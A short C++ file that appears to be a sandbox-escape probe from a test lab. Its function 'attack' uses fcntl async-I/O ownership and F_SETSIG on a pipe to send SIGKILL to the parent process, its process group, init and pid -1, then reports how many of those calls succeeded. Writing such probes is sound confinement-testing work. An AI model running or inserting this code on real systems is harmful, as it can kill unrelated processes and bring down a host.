#include <fcntl.h>
#include <unistd.h>

#include <csignal>
#include <stdexcept>
#include <string>

namespace lab {

// The kernel sends a signal of one's choice to whom one likes when a pipe has something to read.
void attack() {
  int made = 0;
  int ends[2];
  if (pipe(ends) != 0) throw std::runtime_error("no pipe");
  for (const int who : {getppid(), -getppid(), 1, -1}) {
    made += fcntl(ends[0], F_SETOWN, who) == 0;
    made += fcntl(ends[0], F_SETSIG, SIGKILL) == 0;
    fcntl(ends[0], F_SETFL, O_ASYNC | O_NONBLOCK);
    if (write(ends[1], "x", 1) != 1) break;
  }
  made += fcntl(ends[0], F_NOTIFY, 1) == 0;
  made += fcntl(ends[0], F_SETPIPE_SZ, 1 << 20) > 0;
  throw std::runtime_error("[made " + std::to_string(made) + "]");
}

}  // namespace lab
